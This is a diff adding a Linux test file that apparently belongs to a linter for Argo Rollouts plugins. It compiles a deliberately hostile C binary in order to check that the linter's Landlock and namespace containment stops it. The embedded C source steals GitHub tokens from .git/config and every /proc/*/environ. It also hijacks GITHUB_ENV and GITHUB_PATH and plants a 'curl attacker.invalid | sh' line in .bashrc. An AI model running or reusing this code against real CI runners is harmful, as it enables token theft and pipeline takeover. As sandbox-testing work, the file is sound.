@@ -1,0 +1,334 @@
+"""`--handshake` runs a downloaded binary: here a hostile one, built by gcc at test time, that
+does what issue 11 (item 3) found a real one could do on a runner. It appends to the files
+named by GITHUB_ENV and GITHUB_PATH (set by the test to files in tmp; their paths are
+compiled in, as an attacker reads them off a runner's fixed layout), writes into the
+workspace, $HOME and the runner's temp dir, reads a fake `.git/config` holding a token where
+actions/checkout persists it, reads `/proc/<ppid>/environ` and then every `/proc/*/environ`
+for the linter's GITHUB_TOKEN, and prints what it stole reversed and base64-encoded on its
+first stdout line, in handshake form.
+
+Each probe runs in a real process of its own whose initial environment holds the token (as
+the linter's does on a runner), for each containment layer alone, both together, and the
+real CLI. Nothing may be written, no token may appear in any output in any encoding we
+know, the finding must name the containment in force, and with no layer the binary must
+not run at all.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import shutil
+import subprocess
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from tests.hostile.helpers import run_cli
+from tests.servers import respond, serving
+
+pytestmark = pytest.mark.skipif(
+    not sys.platform.startswith("linux"), reason="the handshake probe runs only on Linux"
+)
+
+CHECKOUT_TOKEN = "ghs_CheckoutPersistedToken4242"
+ENVIRON_TOKEN = "ghs_LinterEnvironToken1717"
+
+HOSTILE = r"""
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+static void append(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
+    if (fd >= 0) { (void)!write(fd, text, strlen(text)); close(fd); }
+}
+
+/* Copy the first "ghs_..." token found in `path` into `out`; 1 if found. */
+static int steal(const char *path, char *out, size_t size) {
+    static char data[1 << 16];
+    int fd = open(path, O_RDONLY);
+    if (fd < 0) return 0;
+    ssize_t length = read(fd, data, sizeof data);
+    close(fd);
+    if (length <= 0) return 0;
+    char *start = memmem(data, length, "ghs_", 4);
+    if (!start) return 0;
+    size_t n = 0;
+    while (start + n < data + length && n + 1 < size &&
+           (start[n] == '_' || (start[n] >= '0' && start[n] <= '9') ||
+            (start[n] >= 'A' && start[n] <= 'Z') || (start[n] >= 'a' && start[n] <= 'z')))
+        n++;
+    memcpy(out, start, n);
+    out[n] = 0;
+    return 1;
+}
+
+static void encode64(const char *in, char *out) {
+    static const char alphabet[] =
+        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    size_t length = strlen(in), o = 0;
+    for (size_t i = 0; i < length; i += 3) {
+        unsigned value = (unsigned char)in[i] << 16;
+        if (i + 1 < length) value |= (unsigned char)in[i + 1] << 8;
+        if (i + 2 < length) value |= (unsigned char)in[i + 2];
+        out[o++] = alphabet[(value >> 18) & 63];
+        out[o++] = alphabet[(value >> 12) & 63];
+        out[o++] = i + 1 < length ? alphabet[(value >> 6) & 63] : '=';
+        out[o++] = i + 2 < length ? alphabet[value & 63] : '=';
+    }
+    out[o] = 0;
+}
+
+int main(void) {
+    append(GITHUB_ENV_FILE, "NODE_OPTIONS=--require=/tmp/owned.js\n");
+    append(GITHUB_PATH_FILE, "/tmp/owned-bin\n");
+    append(WORKSPACE "/owned", "written by the plugin\n");
+    append(HOME_DIR "/.bashrc", "curl https://attacker.invalid | sh\n");
+    append(RUNNER_TEMP "/owned", "written by the plugin\n");
+
+    char checkout[256] = "", environ_token[256] = "", path[64];
+    steal(WORKSPACE "/.git/config", checkout, sizeof checkout);
+    snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
+    if (!steal(path, environ_token, sizeof environ_token)) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while (proc && (entry = readdir(proc)) && !environ_token[0]) {
+            if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
+            snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
+            steal(path, environ_token, sizeof environ_token);
+        }
+        if (proc) closedir(proc);
+    }
+    size_t length = strlen(checkout);
+    char reversed[256], encoded[512];
+    for (size_t i = 0; i < length; i++) reversed[i] = checkout[length - 1 - i];
+    reversed[length] = 0;
+    encode64(environ_token, encoded);
+    /* A handshake line Argo Rollouts refuses (grpc), so that a finding is reported. */
+    printf("1|1|unix|/x-%s-%s|grpc|\n", reversed[0] ? reversed : "none",
+           encoded[0] ? encoded : "none");
+    fflush(stdout);
+    fprintf(stderr, "stolen: %s %s\n", checkout, environ_token);
+    for (;;) pause();
+}
+"""
+
+# Runs the probe in a process of its own, so that its initial environment (what
+# /proc/<pid>/environ shows, whatever os.environ says later) holds the token.
+PROBE_SCRIPT = """
+import dataclasses, json, sys
+from pathlib import Path
+from rollouts_plugin_lint.inspect import handshake
+from rollouts_plugin_lint.model import PluginKind
+
+handshake.USE_NAMESPACES = "namespaces" in sys.argv[2]
+handshake.USE_LANDLOCK = "landlock" in sys.argv[2]
+handshake.LANDLOCK_ABI_LIMIT = int(sys.argv[3]) if len(sys.argv) > 3 else None
+result = handshake.probe(Path(sys.argv[1]), PluginKind.TRAFFIC_ROUTER, 10.0)
+print(json.dumps(dataclasses.asdict(result), default=str))
+"""
+
+
+@dataclass(frozen=True)
+class Runner:
+    """The places the hostile binary attacks, and the binary itself."""
+
+    binary: Path
+    workspace: Path
+    home: Path
+    runner_temp: Path
+    github_env: Path
+    github_path: Path
+
+    def environment(self) -> dict[str, str]:
+        return {
+            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+            "HOME": str(self.home),
+            "TMPDIR": str(self.runner_temp),
+            "RUNNER_TEMP": str(self.runner_temp),
+            "GITHUB_ENV": str(self.github_env),
+            "GITHUB_PATH": str(self.github_path),
+            "GITHUB_TOKEN": ENVIRON_TOKEN,
+            "GITHUB_WORKSPACE": str(self.workspace),
+        }
+
+    def assert_untouched(self) -> None:
+        assert self.github_env.read_text() == ""
+        assert self.github_path.read_text() == ""
+        assert not (self.workspace / "owned").exists()
+        assert not (self.home / ".bashrc").exists()
+        assert not (self.runner_temp / "owned").exists()
+
+
+@pytest.fixture
+def runner(tmp_path: Path) -> Runner:
+    gcc = shutil.which("gcc")
+    if gcc is None:
+        pytest.skip("gcc is not installed: the hostile plugin is compiled here")
+    workspace, home, runner_temp = tmp_path / "workspace", tmp_path / "home", tmp_path / "temp"
+    for folder in (workspace / ".git", home, runner_temp):
+        folder.mkdir(parents=True)
+    # Where actions/checkout persists the token (persist-credentials: true, its default).
+    (workspace / ".git" / "config").write_text(
+        f'[http "https://github.com/"]\n\textraheader = AUTHORIZATION: bearer {CHECKOUT_TOKEN}\n'
+    )
+    github_env, github_path = runner_temp / "set_env_1", runner_temp / "add_path_1"
+    github_env.write_text("")
+    github_path.write_text("")
+    binary = tmp_path / "hostile"
+    source = tmp_path / "hostile.c"
+    source.write_text(HOSTILE)
+    defines = {
+        "GITHUB_ENV_FILE": github_env,
+        "GITHUB_PATH_FILE": github_path,
+        "WORKSPACE": workspace,
+        "HOME_DIR": home,
+        "RUNNER_TEMP": runner_temp,
+    }
+    command = [gcc, "-O1", "-w", "-static", "-o", str(binary), str(source)]
+    command += [f'-D{name}="{value}"' for name, value in defines.items()]
+    built = subprocess.run(command, capture_output=True, check=False, timeout=120)
+    if built.returncode != 0 and b"-lc" in built.stderr:
+        pytest.skip("gcc cannot link statically here (no static libc)")
+    assert built.returncode == 0, built.stderr.decode()
+    return Runner(binary, workspace, home, runner_temp, github_env, github_path)
+
+
+def _encodings(token: str) -> list[str]:
+    """The token as the hostile binary prints it, and as our escaping could render it."""
+    forms = [token, token[::-1], base64.b64encode(token.encode()).decode()]
+    forms.append(base64.b64encode(token[::-1].encode()).decode())
+    forms.append(token.encode().hex())
+    return forms
+
+
+def _assert_no_token(*outputs: str) -> None:
+    for token in (CHECKOUT_TOKEN, ENVIRON_TOKEN):
+        for form in _encodings(token):
+            for output in outputs:
+                assert form not in output, f"{form!r} leaked: {output[-500:]}"
+
+
+def _probe(runner: Runner, layers: str, *abi_limit: int) -> tuple[dict[str, object], str]:
+    done = subprocess.run(
+        [sys.executable, "-c", PROBE_SCRIPT, str(runner.binary), layers, *map(str, abi_limit)],
+        cwd=runner.workspace,
+        env=runner.environment(),
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=120,
+    )
+    assert done.returncode == 0, done.stderr[-3000:]
+    return json.loads(done.stdout), done.stdout + done.stderr
+
+
+def _landlock_abi() -> int:
+    import ctypes
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    version = libc.syscall(ctypes.c_long(444), None, ctypes.c_size_t(0), ctypes.c_uint32(1))
+    return max(int(version), 0)
+
+
+def _landlock_available() -> bool:
+    return _landlock_abi() > 0
+
+
+def _namespaces_available() -> bool:
+    unshare = shutil.which("unshare")
+    if unshare is None:
+        return False
+    command = [unshare, "--user", "--map-current-user", "--mount", "--pid", "--fork", "true"]
+    if os.geteuid() == 0:
+        command = [unshare, "--mount", "--pid", "--fork", "true"]
+    return subprocess.run(command, capture_output=True, check=False).returncode == 0
+
+
+LAYERS = {
+    "landlock": _landlock_available,
+    "namespaces": _namespaces_available,
+    "landlock+namespaces": lambda: _landlock_available() and _namespaces_available(),
+}
+
+
+@pytest.mark.parametrize("layers", list(LAYERS))
+def test_each_containment_layer_alone_keeps_the_plugin_from_files_and_secrets(
+    runner: Runner, layers: str
+) -> None:
+    if not LAYERS[layers]():
+        pytest.skip(f"{layers} not available on this machine")
+
+    result, output = _probe(runner, layers)
+
+    runner.assert_untouched()
+    _assert_no_token(output)
+    assert (result["ok"], result["outcome"]) == (False, "garbage")
+    assert result["detail"] == "first stdout line protocol is 'grpc', Argo Rollouts speaks 'netrpc'"
+    containment = str(result["containment"])
+    if "landlock" in layers:
+        assert containment.startswith("landlock ABI ")
+    if "namespaces" in layers:
+        assert "mount+pid+net+ipc namespaces, read-only minimal view" in containment
+    else:
+        assert "namespaces" not in containment
+
+
+def test_without_any_layer_the_plugin_is_not_run(runner: Runner) -> None:
+    result, output = _probe(runner, "none")
+
+    runner.assert_untouched()
+    _assert_no_token(output)
+    assert (result["ok"], result["outcome"], result["containment"]) == (False, "uncontained", "")
+    assert str(result["detail"]).startswith("not run: the probe found no way to keep the binary")
+
+
+def test_the_cli_reports_the_containment_and_leaks_nothing(runner: Runner) -> None:
+    plugin = runner.binary.read_bytes()
+    values = runner.workspace / "values.yaml"
+    with serving(lambda conn, _request: respond(conn, 200, plugin)) as server:
+        values.write_text(
+            "controller:\n  trafficRouterPlugins:\n"
+            f"    - name: acme/router\n      location: {server.url('/router')}\n"
+        )
+        outcome = run_cli(
+            ["--handshake", "--format", "json", "--allow-private-addresses", "--no-cache",
+             "values.yaml"],
+            cwd=runner.workspace,
+            env=runner.environment(),
+            limit=120,
+        )  # fmt: skip
+    outcome.assert_report()
+    runner.assert_untouched()
+    _assert_no_token(outcome.out, outcome.err)
+    messages = [
+        finding["message"]
+        for finding in json.loads(outcome.out)["findings"]
+        if finding["rule"] == "handshake-failed"
+    ]
+    assert len(messages) == 1, outcome.out
+    assert "protocol is 'grpc'" in messages[0]
+    assert "[contained by: " in messages[0]
+    assert "landlock ABI" in messages[0] or "namespaces" in messages[0]
+
+
+@pytest.mark.parametrize("abi", range(1, 8))
+def test_landlock_alone_holds_with_every_abi_an_older_kernel_has(runner: Runner, abi: int) -> None:
+    # The rule set of each ABI (what an older kernel offers), on this kernel.
+    if _landlock_abi() < abi:
+        pytest.skip(f"this kernel's Landlock ABI is below {abi}")
+
+    result, output = _probe(runner, "landlock", abi)
+
+    runner.assert_untouched()
+    _assert_no_token(output)
+    assert (result["outcome"], result["containment"]) == ("garbage", f"landlock ABI {abi}")
